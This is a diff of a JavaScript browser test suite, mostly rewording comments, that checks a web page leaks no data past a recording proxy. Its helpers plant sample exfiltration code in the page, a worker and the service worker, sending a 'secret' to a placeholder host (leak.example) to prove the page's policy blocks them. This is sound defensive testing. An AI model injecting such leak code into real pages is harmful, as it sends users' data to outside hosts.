@@ -1,5 +1,5 @@
-// No data leaves the page: all traffic of Chromium, from any source, goes through a proxy that records it. The same test
-// detects planted leaks, and the page's policy blocks everything that a policy can block.
+// No data leaves the page: all traffic of Chromium, from any source, goes through a proxy that records it.
+// The same test detects planted leaks. The page's policy blocks all leaks that a policy can block.
 
 import assert from 'node:assert/strict';
 import { writeFileSync } from 'node:fs';
@@ -28,12 +28,13 @@ writeFileSync(LATER, ['text', ...TEXTS.map((text) => `"${text}, later"`)].join('
 let files;
 before(async () => { files = await siteFiles(); });
 
-// Chromium itself requests these hosts, independent of the open page. Reasons are updates, a signed-in user and, by a hash of
-// their names, the meaning of form fields. `foreign` collects the requests of the page, its workers and its service worker, so
-// it shows that none of these goes to the same hosts.
+// Chromium itself requests these hosts, independent of the open page. The reasons are updates and a signed-in user.
+// Chromium also asks for the meaning of form fields by a hash of the fields' names.
+// `foreign` collects the requests of the page, its workers and its service worker.
+// It shows that no request of the page goes to the same hosts.
 const CHROMIUMS_OWN = ['accounts.google.com', 'update.googleapis.com', 'content-autofill.googleapis.com', 'clients2.google.com'];
 
-/** Requests of a session other than for files of the site at `address`. */
+/** The requests of a session except those for files of the site at `address`. */
 function leaks(seen, address) {
   const listed = new Set([SERVICE_WORKER, '', ...files.keys()]);
   const isListed = (url) => url.startsWith(address) && listed.has(url.slice(address.length));
@@ -41,8 +42,9 @@ function leaks(seen, address) {
 }
 
 /**
- * A test with a host, a proxy that records everything, and a page. The host sends no headers unless `sendsHeaders` is set;
- * `realServer` uses the real server. No text may appear in a log or a URL.
+ * Adds a test with a host, a proxy that records all requests, and a page.
+ * The host sends no headers unless `sendsHeaders` is set. With `realServer`, the test uses the real server.
+ * No text may appear in a log or a URL.
  */
 function check(name, body, { realServer = false, sendsHeaders = false, prepare = (site) => site, ...options } = {}) {
   test(`trust: ${name}`, { timeout: LONG }, async () => {
@@ -56,7 +58,7 @@ function check(name, body, { realServer = false, sendsHeaders = false, prepare =
         // Requests to other origins must reach the proxy.
         await opened.context.unrouteAll();
         const messages = recordLogs(opened.context);
-        // Requests blocked before the page starts to listen would not be in its list.
+        // A request that is blocked before the page starts to listen would be missing in the page's list.
         await opened.page.waitForFunction(() => Number(document.querySelector('#network-count')?.dataset.asked) > 0);
         const recorded = () => [...messages, ...proxy.seen.map(readableUrl)];
         await body({ ...opened, host, proxy, recorded });
@@ -77,11 +79,11 @@ function check(name, body, { realServer = false, sendsHeaders = false, prepare =
 const pathOf = (url) => new URL(url).pathname;
 
 /**
- * Checks that the page counts and lists each request that the proxy saw. The page lists more requests than the proxy,
- * because the browser's cache answers some.
+ * Checks that the page counts and lists each request that the proxy saw.
+ * The page lists more requests than the proxy, because the browser's cache answers some requests.
  */
 async function checkRequestList(page, host, proxy) {
-  // The browser itself requests the service worker's script.
+  // The browser itself, and not the page, requests the service worker's script.
   const requested = proxy.seen.filter((url) => url.startsWith(host.address) && !url.endsWith(SERVICE_WORKER)).map(pathOf);
   assert.ok(requested.length > 10, `${requested}`);
   await page.waitForFunction((n) => Number(document.querySelector('#network-count')?.dataset.asked) >= n, requested.length);
@@ -94,7 +96,7 @@ async function checkRequestList(page, host, proxy) {
   await page.keyboard.press('Escape');
 }
 
-/** Opens a file, embeds, selects, labels one text by key, and returns the export. */
+/** Opens a file, embeds its texts, selects, labels one text by key, and returns the export. */
 async function runSession(page, file) {
   await choose(page, [file]);
   await set(page, 'budget', 6);
@@ -111,7 +113,7 @@ for (const realServer of [true, false]) {
     await runSession(page, CSV);
     await checkRequestList(page, host, proxy);
     const rows = await picks(page);
-    // Without a network everything still works.
+    // The page works without a network.
     proxy.cut = true;
     const before = proxy.seen.length;
     await page.reload();
@@ -122,7 +124,7 @@ for (const realServer of [true, false]) {
     assert.deepEqual([leaks(proxy.seen, host.address), foreign], [[], []]);
     const asked = proxy.seen.slice(before).filter((url) => url.startsWith(host.address) && !url.endsWith(SERVICE_WORKER));
     assert.deepEqual(asked, [], 'only the check for a newer version is sent');
-    // The page counts all requests that were sent, and also those answered by the browser's cache.
+    // The page counts all sent requests, and also the requests that the browser's cache answers.
     await page.click('#network');
     await page.waitForSelector('#network-dialog[open]');
     await page.waitForSelector('#network-dialog #origins li');
@@ -132,7 +134,7 @@ for (const realServer of [true, false]) {
   }, { realServer });
 }
 
-/** Every way for a page to send data that the proxy can see, each with its own path. */
+/** All ways in which a page can send data that the proxy can see. Each way has its own path. */
 function plantLeaks(leak) {
   const text = 'secret';
   const attempts = {
@@ -155,7 +157,7 @@ function plantLeaks(leak) {
       form.submit();
     },
     module: () => import(`${leak}/module`),
-    // The only document of the site whose policy allows requests to other origins, for a language model.
+    // This document is the only document of the site whose policy allows requests to other origins, for a language model.
     endpoint: () => {
       const frame = document.createElement('iframe');
       frame.src = JSON.parse(document.querySelector('#assets').textContent).endpoint;
@@ -164,7 +166,7 @@ function plantLeaks(leak) {
     },
   };
   for (const attempt of Object.values(attempts)) {
-    try { Promise.resolve(attempt()).catch(() => {}); } catch { /* Refused at once. */ }
+    try { Promise.resolve(attempt()).catch(() => {}); } catch { /* The policy refused the attempt at once. */ }
   }
   return Object.keys(attempts);
 }
@@ -174,7 +176,7 @@ const leakInWorker = (site) => withChange(site, sitePath(site, 'worker-loader.js
   assert.ok(source.includes(marker));
   return source.replace(marker, `${marker} console.log('secret of a worker'); fetch('${LEAK}/worker', { mode: 'no-cors' }).catch(() => {});`);
 });
-/** Leaks at each message, because the first request may come before the test has opened the way to the host. */
+/** Leaks at each message, because the first request may come before the test has allowed requests to the host. */
 const leakInServiceWorker = (site) => new Map(site).set(SERVICE_WORKER, Buffer.from(`${site.get(SERVICE_WORKER)}
 self.addEventListener('message', () => {
   console.log('secret of the service worker');
@@ -182,7 +184,7 @@ self.addEventListener('message', () => {
 });
 `));
 
-/** The kinds of leaks that arrived. The proxy sees only the tunnel request of a WebSocket. */
+/** The kinds of leaks that arrived. Of a WebSocket, the proxy sees only the tunnel request. */
 function arrivedLeaks(proxy) {
   const kinds = proxy.seen.map((url) => {
     if (url === `${LEAK.replace('http', 'https')}:80`) return 'socket';
@@ -223,13 +225,13 @@ for (const realServer of [true, false]) {
     await waitForLeaks(page, proxy, allowed.length);
     await page.waitForTimeout(2000);
     assert.deepEqual(arrivedLeaks(proxy), allowed);
-    // The check is the same as for the session. The browser repeats requests that were cut off.
+    // The check is the same as for a whole session. The browser repeats requests that the proxy cut off.
     const leaked = () => [...new Set(leaks(proxy.seen, host.address))];
     assert.deepEqual(leaked(), [`${LEAK}/endpoint`]);
     await page.click('#network');
     await page.waitForSelector('#network-dialog[open]');
     const refused = await page.innerText('#refused');
-    // For a frame, the browser reports only the host.
+    // For a frame, the browser reports only the host of the request.
     for (const kind of blocked) assert.ok(refused.includes(`leak.example/${kind === 'frame' ? ',' : kind}`), `${kind}: ${refused}`);
     assert.ok(!refused.includes('endpoint'), refused);
     // A script can navigate the tab to another URL.
@@ -291,7 +293,7 @@ check('strings do not become code or HTML', async ({ page }) => {
   assert.deepEqual([html, script, worker, blob, policy], Array(5).fill('TypeError'));
   assert.deepEqual([plain, ran, cookies], ['TypeError', undefined, ''], 'harmless HTML is refused too');
 
-  // In a task of the page itself, because the policy may not apply to code evaluated by the debugger.
+  // The code runs in a task of the page itself, because the policy may not apply to code that the debugger evaluates.
   const strings = await page.evaluate(() => new Promise((resolve) => {
     const errorOf = (attempt) => { try { attempt(); return 'it ran'; } catch (error) { return error.name; } };
     setTimeout(() => {
@@ -332,7 +334,7 @@ check('request to a language model opens one frame to it alone and closes it', a
     const elsewhere = () => page.$eval('#network-count', (count) => Number(count.dataset.elsewhere));
     assert.equal(await elsewhere(), N, 'the page counts its requests');
 
-    // The answers to the texts without a label go the same way.
+    // The answers to the texts without a label arrive in the same way.
     model.delay = 0;
     await set(page, 'answers-endpoint', `${model.origin}/v1`);
     await set(page, 'answers-model', 'tiny');
